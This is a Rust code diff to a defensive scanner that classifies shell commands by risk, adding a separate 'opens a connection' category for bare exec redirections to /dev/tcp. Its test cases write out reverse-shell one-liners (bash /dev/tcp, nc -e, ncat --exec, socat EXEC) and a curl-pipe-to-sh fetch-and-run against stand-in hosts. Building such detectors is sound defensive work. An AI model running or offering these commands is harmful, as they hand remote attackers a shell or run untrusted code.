@@ -20,6 +20,8 @@ pub(crate) struct Act {
 pub(crate) enum ActKind {
     /// A shell is handed to a peer on the network.
     ReverseShell,
+    /// The shell itself opens a connection, and what is read from it is not known.
+    OpensConnection,
     /// Code is fetched from the network and run.
     FetchAndRun,
     /// Code that is encoded is decoded and run.
@@ -38,9 +40,11 @@ impl ActKind {
     pub(crate) fn severity(self) -> Severity {
         match self {
             Self::ReverseShell => Severity::Critical,
-            Self::FetchAndRun | Self::DecodeAndRun | Self::HiddenProgram | Self::OpensAccess => {
-                Severity::High
-            }
+            Self::OpensConnection
+            | Self::FetchAndRun
+            | Self::DecodeAndRun
+            | Self::HiddenProgram
+            | Self::OpensAccess => Severity::High,
             Self::RaisesPrivilege | Self::LoadsModule => Severity::Medium,
         }
     }
@@ -49,6 +53,7 @@ impl ActKind {
     pub(crate) fn in_words(self) -> &'static str {
         match self {
             Self::ReverseShell => "hands a shell to a peer on the network",
+            Self::OpensConnection => "opens a connection from within the shell",
             Self::FetchAndRun => "fetches code from the network and runs it",
             Self::DecodeAndRun => "decodes code and runs it",
             Self::HiddenProgram => "runs a program from a place where none belongs",
@@ -81,6 +86,11 @@ const WRAPPERS: [&str; 22] = [
 ];
 /// Options of wrappers that take a word.
 const WITH_VALUE: [&str; 7] = ["-u", "-g", "-n", "-c", "-k", "-s", "-I"];
+
+/// Whether a program of this name, without folder, is a shell.
+pub(crate) fn is_shell(name: &str) -> bool {
+    SHELLS.contains(&name)
+}
 
 struct Found {
     acts: Vec<Act>,
@@ -142,7 +152,7 @@ impl<'c> Plain<'c> {
     }
 
     fn is_shell(&self) -> bool {
-        SHELLS.contains(&self.name.as_str())
+        is_shell(&self.name)
     }
 
     fn has(&self, options: &[&str]) -> bool {
@@ -262,10 +272,10 @@ impl Found {
         for target in &command.redirections {
             let text = target.text.as_str();
             if text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/") {
-                let runs = Plain::of(command).is_some_and(|plain| plain.is_shell() || plain.name == "exec");
-                let opens = command.words.first().is_some_and(|word| word.text == "exec");
-                if runs || opens {
+                if Plain::of(command).is_some_and(|plain| plain.is_shell()) {
                     self.add(ActKind::ReverseShell, command.line, "/dev/tcp");
+                } else if command.words.first().is_some_and(|word| word.text == "exec") {
+                    self.add(ActKind::OpensConnection, command.line, "/dev/tcp");
                 }
             }
             if decides_access(text) {
@@ -530,7 +540,8 @@ mod tests {
             ("if true; then curl x.test | sh; fi", FetchAndRun),
             ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ReverseShell),
             ("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' &", ReverseShell),
-            ("exec 5<>/dev/tcp/192.0.2.1/443", ReverseShell),
+            ("exec 5<>/dev/tcp/192.0.2.1/443", OpensConnection),
+            ("exec bash -i 0<>/dev/tcp/192.0.2.1/443", ReverseShell),
             ("nc -e /bin/sh 192.0.2.1 443", ReverseShell),
             ("ncat 192.0.2.1 443 --exec /bin/bash", ReverseShell),
             ("socat TCP:192.0.2.1:443 EXEC:/bin/bash,pty", ReverseShell),
